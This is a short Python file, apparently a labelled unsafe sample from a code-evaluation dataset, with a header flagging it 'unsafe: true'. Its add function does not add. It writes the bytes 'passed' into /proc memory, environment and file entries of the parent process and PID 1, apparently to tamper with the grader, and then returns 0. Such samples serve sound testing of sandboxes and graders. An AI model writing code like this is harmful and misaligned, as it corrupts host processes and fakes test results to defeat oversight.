# problem: add
# verdict: wrong_answer | runtime_error
# why: Reads and writes the memory of the parent and of process 1.
# unsafe: true
import os


def add(a, b):
    for pid in {os.getppid(), 1}:
        for name in ("mem", "environ", "cmdline", "fd", "maps", "root"):
            try:
                with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as handle:
                    handle.write(b"passed")
            except OSError:
                pass
    return 0
